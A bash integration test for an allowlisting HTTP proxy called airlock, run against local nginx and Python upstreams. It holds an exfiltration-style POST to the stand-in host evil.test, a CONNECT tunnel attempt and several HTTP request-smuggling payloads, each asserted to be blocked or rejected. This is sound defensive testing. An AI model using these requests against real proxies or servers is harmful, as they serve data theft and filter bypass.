#!/bin/bash
# Issue 3: the HTTP proxy core on port 80 through real clients, a real nginx and a Python
# upstream with faults, in a network namespace of the test's own.
. "$(dirname "$0")/lib.sh"
t_enter_netns "$@"
HERE=$(cd "$(dirname "$0")" && pwd)

cat > "$T_DIR/allow.yaml" <<'YAML'
domains: ["nginx.test", "burst.test"]
url_prefixes:
  - host: py.test
    path: ""
  - host: api.test
    path: /v1/*
    methods: [GET]
  - host: gone.test
  - host: refused.test
YAML
ip addr add 127.0.0.3/8 dev lo 2>/dev/null || true
ip addr add 127.0.0.5/8 dev lo 2>/dev/null || true
t_start_resolver --address=/py.test/127.0.0.3 --address=/api.test/127.0.0.3 \
    --address=/refused.test/127.0.0.4 --address=/gone.test/ --address=/burst.test/127.0.0.5
mkdir -p "$T_DIR/www"
echo "hello from nginx" > "$T_DIR/www/index.html"
t_start_nginx || exit 1
# A second nginx for the 1,000-request burst below: with t_start_nginx's 1024
# worker_connections, nginx makes room by closing fresh connections (airlock then answers 502).
mkdir -p "$T_DIR/nginx5"
cat > "$T_DIR/nginx5.conf" <<NGINX
daemon off;
worker_processes 1;
worker_rlimit_nofile 8192;
pid $T_DIR/nginx5/nginx.pid;
error_log $T_DIR/nginx5/error.log;
events { worker_connections 4096; }
http {
    access_log off;
    client_body_temp_path $T_DIR/nginx5/body;
    proxy_temp_path $T_DIR/nginx5/proxy;
    fastcgi_temp_path $T_DIR/nginx5/fastcgi;
    uwsgi_temp_path $T_DIR/nginx5/uwsgi;
    scgi_temp_path $T_DIR/nginx5/scgi;
    server { listen 127.0.0.5:80 backlog=4096; root $T_DIR/www; }
}
NGINX
nginx -c "$T_DIR/nginx5.conf" &
T_PIDS+=($!)
t_wait_port 127.0.0.5 80 || exit 1
"$PY" "$HERE/upstream.py" 127.0.0.3 80 "$T_DIR/py-conns.log" > /dev/null 2>&1 &
T_PIDS+=($!)
t_wait_port 127.0.0.3 80 || exit 1
t_start_airlock "$T_DIR/allow.yaml" --allow-upstream-cidr 127.0.0.3/32 \
    --allow-upstream-cidr 127.0.0.4/32 --allow-upstream-cidr 127.0.0.5/32 || exit 1

# --- allowed, with the DNS topology (glibc resolves through airlock) ---
out=$(curl -s -m 5 http://nginx.test/)
t_eq "curl allowed GET through airlock" "hello from nginx" "$out"
t_logged "DNS line logged" '^DNS A nginx.test -> 127.0.0.1$'
t_logged "allowed line logged" '^allowed GET http://nginx.test/ -> 200$'

# --- blocked: exact JSON, content type, log ---
body=$(curl -s -m 5 -D "$T_DIR/h1" -X POST 'http://evil.test/exfil?d=1')
t_eq "blocked JSON body" '{"error": "blocked_by_network_allowlist", "host": "evil.test", "path": "/exfil?d=1", "method": "POST", "message": "This host/path is not in the network allowlist. To request access, add the host/path to the network allowlist (network-allowlist.yaml) and ask the user to approve the change."}' "$body"
grep -qi '^content-type: application/json' "$T_DIR/h1"; t_check "blocked has JSON content type" test $? -eq 0
grep -q '^HTTP/1.1 403' "$T_DIR/h1"; t_check "blocked status 403" test $? -eq 0
t_logged "blocked line logged" '^BLOCKED POST http://evil.test/exfil?d=1 -> 403$'

# method message
body=$(curl -s -m 5 -X DELETE http://api.test/v1/x)
t_contains "method-blocked message" "$body" '"message": "Method DELETE is not allowed for this URL.'
out=$(curl -s -m 5 http://api.test/v1/echo-headers)
t_contains "url_prefixes allow GET" "$out" '"request_line": "GET /v1/echo-headers HTTP/1.1"'

# --- CONNECT on port 80 ---
out=$(printf 'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n' | "$PY" "$HERE/raw.py" 127.0.0.1 80)
t_contains "CONNECT answered 403" "$out" "HTTP/1.1 403 Forbidden"
t_contains "CONNECT JSON" "$out" '"host": "evil.test:443", "method": "CONNECT"'
t_logged "CONNECT line logged" '^BLOCKED CONNECT evil.test:443 -> 403 (tunneling not allowed)$'

# --- absolute-form with a different host ---
out=$(printf 'GET http://evil.test/x HTTP/1.1\r\nHost: nginx.test\r\n\r\n' | "$PY" "$HERE/raw.py" 127.0.0.1 80)
t_contains "absolute-form mismatch 403" "$out" '"host": "nginx.test", "url_host": "evil.test"'
t_logged "mismatch line logged" '^BLOCKED GET http://nginx.test/x -> 403 (host mismatch: header=nginx.test, url=evil.test)$'
out=$(printf 'GET http://nginx.test/ HTTP/1.1\r\nHost: nginx.test\r\nConnection: close\r\n\r\n' | "$PY" "$HERE/raw.py" 127.0.0.1 80)
t_contains "absolute-form same host is forwarded (origin-form upstream)" "$out" "hello from nginx"

# --- keep-alive: second request on the same connection blocked, third allowed ---
out=$(/usr/bin/python3 - <<'PYX'
import http.client
c = http.client.HTTPConnection("127.0.0.1", 80, timeout=5)
res = []
ports = set()
for host in ("nginx.test", "evil.test", "nginx.test"):
    c.request("GET", "/echo", headers={"Host": host})
    ports.add(c.sock.getsockname()[1])
    r = c.getresponse(); r.read()
    res.append(str(r.status))
res.append("same-socket" if len(ports) == 1 else "reconnected")
print(" ".join(res))
PYX
)
t_eq "keep-alive: allowed, blocked, allowed on one connection" "200 403 200 same-socket" "$out"

# --- pipelining: allowed, blocked, allowed in one write ---
out=$(printf 'GET /echo HTTP/1.1\r\nHost: nginx.test\r\n\r\nGET /x HTTP/1.1\r\nHost: evil.test\r\n\r\nGET /echo?2 HTTP/1.1\r\nHost: nginx.test\r\nConnection: close\r\n\r\n' | "$PY" "$HERE/raw.py" 127.0.0.1 80)
n200=$(printf '%s' "$out" | grep -o 'HTTP/1.1 200' | wc -l)
n403=$(printf '%s' "$out" | grep -o 'HTTP/1.1 403' | wc -l)
t_eq "pipelined: two 200 and one 403" "2 1" "$n200 $n403"
first=$(printf '%s' "$out" | grep -o 'uri=[^ ]*' | tr '\n' ' ')
t_eq "pipelined answers in order" "uri=/echo uri=/echo?2 " "$first"

# --- 1,000 concurrent first requests to a name not looked up yet (to the second nginx): all
# answered, and the upstream resolver is asked a few times, not once per request (dnsmasq
# answers with TTL 0, so nothing is cached: each ended lookup lets the next arrivals start one)
out=$("$PY" - <<'PYX'
import asyncio, resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
if soft < 4096 and (hard < 0 or hard >= 4096):
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, hard))
async def one():
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", 80), 10)
        w.write(b"GET / HTTP/1.1\r\nHost: burst.test\r\nConnection: close\r\n\r\n")
        data = await asyncio.wait_for(r.read(), 10)
        w.close()
        return data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/1.1 ") else "none"
    except Exception as e:
        return type(e).__name__
async def main():
    res = await asyncio.gather(*(one() for _ in range(1000)))
    print(" ".join(f"{k}:{res.count(k)}" for k in sorted(set(res))))
asyncio.run(main())
PYX
)
t_eq "burst of 1000 first requests to burst.test: all 200" "200:1000" "$out"
# a line may follow its response by a moment
until_ok '[ "$(grep -c "^allowed GET http://burst.test/ -> 200$" "$T_DIR/net.log")" = 1000 ]'
n=$(grep -c '^allowed GET http://burst.test/ -> 200$' "$T_DIR/net.log")
t_eq "burst: 1000 allowed lines" "1000" "$n"
qa=$(grep -c 'query\[A\] burst\.test from 127\.0\.0\.1' "$T_DIR/dnsmasq.log")
qall=$(grep -c 'query\[[A-Z]*\] burst\.test from 127\.0\.0\.1' "$T_DIR/dnsmasq.log")
t_check "burst: few upstream queries for burst.test ($qa A, $qall in all; one per request before)" \
    test "$qa" -ge 1 -a "$qa" -le 50 -a "$qall" -le 100

# --- 2400 pipelined blocked requests in one write: answered in order, no deep recursion ---
out=$(/usr/bin/python3 - <<'PYX'
import socket
s = socket.create_connection(("127.0.0.1", 80), timeout=20)
s.sendall(b"GET / HTTP/1.1\r\nHost: e.test\r\n\r\n" * 2400 +
          b"GET /echo HTTP/1.1\r\nHost: nginx.test\r\nConnection: close\r\n\r\n")
data = b""
while True:
    d = s.recv(1 << 20)
    if not d: break
    data += d
print(data.count(b"HTTP/1.1 403"), data.count(b"HTTP/1.1 200"))
PYX
)
t_eq "2400 pipelined blocked requests then an allowed one" "2400 1" "$out"
kill -0 "$AIRLOCK_PID"; t_check "airlock survived the pipelined flood" test $? -eq 0

# --- chunked upload, streamed ---
head -c 3000000 /dev/urandom > "$T_DIR/up.bin"
want="$(stat -c %s "$T_DIR/up.bin") $(sha256sum "$T_DIR/up.bin" | cut -d' ' -f1)"
out=$(curl -s -m 20 -H 'Transfer-Encoding: chunked' --data-binary @"$T_DIR/up.bin" http://py.test/upload)
t_eq "chunked upload arrives intact" "$want" "$out"
out=$(curl -s -m 20 --data-binary @"$T_DIR/up.bin" http://py.test/upload)
t_eq "Content-Length upload arrives intact" "$want" "$out"
out=$(curl -s -m 20 -H 'Expect: 100-continue' --data-binary @"$T_DIR/up.bin" http://py.test/upload)
t_eq "Expect: 100-continue upload" "$want" "$out"

# --- Python requests and urllib ---
out=$(/usr/bin/python3 -c 'import requests; r = requests.get("http://nginx.test/", timeout=5); print(r.status_code, r.text.strip())')
t_eq "python requests allowed" "200 hello from nginx" "$out"
out=$(/usr/bin/python3 -c '
import requests
r = requests.get("http://evil.test/a", timeout=5)
print(r.status_code, r.json()["error"])')
t_eq "python requests blocked" "403 blocked_by_network_allowlist" "$out"
out=$(/usr/bin/python3 -c '
import urllib.request, urllib.error
try:
    urllib.request.urlopen("http://evil.test/", timeout=5)
except urllib.error.HTTPError as e:
    print(e.code)
print(urllib.request.urlopen("http://nginx.test/", timeout=5).read().decode().strip())')
t_eq "python urllib blocked then allowed" "403
hello from nginx" "$out"

# --- server-sent events arrive one by one ---
out=$(/usr/bin/python3 - <<'PYX'
import socket, time
s = socket.create_connection(("127.0.0.1", 80))
s.sendall(b"GET /sse HTTP/1.1\r\nHost: py.test\r\n\r\n")
t0 = time.time(); buf = b""; first = None
while b"0\r\n\r\n" not in buf:
    d = s.recv(65536)
    if not d: break
    buf += d
    if first is None and b"event 0" in buf:
        first = time.time() - t0
total = time.time() - t0
print("stream" if first is not None and first < total - 0.5 else f"buffered {first} {total}")
PYX
)
t_eq "SSE: first event before the upstream finished" "stream" "$out"

# --- upstream failures -> 502 JSON + ERROR ---
body=$(curl -s -m 10 -w ' %{http_code}' http://gone.test/)
t_contains "unresolvable host: 502" "$body" "502"
t_contains "unresolvable host: upstream_error JSON" "$body" '"error": "upstream_error"'
t_logged "unresolvable host: ERROR line" '^ERROR GET http://gone.test/ -> Connection failed: '
body=$(curl -s -m 10 -w ' %{http_code}' http://refused.test/)
t_contains "refused: 502" "$body" "502"
t_logged "refused: ERROR line" '^ERROR GET http://refused.test/ -> Connection failed: connection refused'
code=$(curl -s -m 10 -o /dev/null -w '%{http_code}' http://py.test/reset-head)
t_eq "reset before a response: 502" "502" "$code"
curl -s -m 10 -o /dev/null http://py.test/reset-body; rc=$?
t_check "reset mid-body: the client sees a broken transfer (curl exit $rc)" test $rc -ne 0
t_logged "reset mid-body: ERROR line" '^ERROR GET http://py.test/reset-body -> Server disconnected during the response'

# --- smuggling forms: 400, nothing upstream ---
before=$(wc -l < "$T_DIR/py-conns.log")
for req in \
  'POST /upload HTTP/1.1\r\nHost: py.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' \
  'POST /upload HTTP/1.1\r\nHost: py.test\r\nContent-Length: 4\r\nContent-Length: 4\r\n\r\nabcd' \
  'GET / HTTP/1.1\r\nHost: py.test\r\nX-A: a\r\n b\r\n\r\n' \
  'GET / HTTP/1.1\nHost: py.test\n\n' \
  'GET / HTTP/1.1\r\nHost: py.test\r\nHost: nginx.test\r\n\r\n' \
  'GET / HTTP/1.1\r\n\r\n' ; do
    out=$(printf "$req" | "$PY" "$HERE/raw.py" 127.0.0.1 80)
    case "$out" in
        "HTTP/1.1 400"*) t_ok "400 for $(printf '%s' "$req" | head -c 60)" ;;
        *) t_fail "expected 400 for $req, got: $(printf '%s' "$out" | head -1)" ;;
    esac
done
after=$(wc -l < "$T_DIR/py-conns.log")
t_eq "smuggling attempts reached no upstream" "$before" "$after"

# --- 431 for a head over 64 KiB ---
big=$(head -c 70000 /dev/zero | tr '\0' a)
out=$(printf 'GET / HTTP/1.1\r\nHost: nginx.test\r\nX-Big: %s\r\n\r\n' "$big" | "$PY" "$HERE/raw.py" 127.0.0.1 80)
t_contains "431 for an oversized head" "$out" "HTTP/1.1 431"

# --- 1 GiB download: RSS stays flat ---
rss0=$(t_rss_kb "$AIRLOCK_PID")
sz=$(curl -s -m 120 -o /dev/null -w '%{size_download}' "http://py.test/bytes?n=1073741824")
rss1=$(t_rss_kb "$AIRLOCK_PID")
t_eq "1 GiB download complete" "1073741824" "$sz"
growth=$((rss1 - rss0))
if ldd "$AIRLOCK" 2>/dev/null | grep -q libasan; then
    # ASan's quarantine keeps freed buffers resident: the figure means nothing there
    t_not_made "RSS growth during 1 GiB download under 8 MB (${growth} KiB)" \
        "ASan's allocator and shadow memory make RSS meaningless"
else
    t_check "RSS growth during 1 GiB download under 8 MB (${growth} KiB)" test "$growth" -lt 8192
fi

# --- SIGHUP: valid file reloads, invalid keeps the old policy ---
code=$(curl -s -m 5 -o /dev/null -w '%{http_code}' http://new.test/echo)
t_eq "new.test blocked before reload" "403" "$code"
printf 'domains: ["nginx.test", "new.test"]\n' > "$T_DIR/allow.yaml"
t_reload
code=$(curl -s -m 5 -o /dev/null -w '%{http_code}' http://new.test/echo)
t_eq "new.test allowed after a valid reload" "200" "$code"
printf 'domains: ["nginx.test"]\nbogus: 1\n' > "$T_DIR/allow.yaml"
t_reload
code=$(curl -s -m 5 -o /dev/null -w '%{http_code}' http://new.test/echo)
t_eq "invalid reload keeps the previous policy" "200" "$code"
grep -q 'allow.yaml:2:1' "$T_DIR/airlock.err"; t_check "invalid reload: stderr says where" test $? -eq 0

# --- exactly one line per request; clean shutdown ---
t_stop_airlock; rc=$?
t_eq "SIGTERM: exit 0" "0" "$rc"
dups=$(grep -E '^(allowed|BLOCKED|ERROR) ' "$T_DIR/net.log" | wc -l)
t_check "log lines written ($dups)" test "$dups" -gt 20
head -1 "$T_DIR/net.log" | grep -q '^=== TASK START [0-9T:-]*Z ===$'
t_check "TASK START line first" test $? -eq 0
t_done
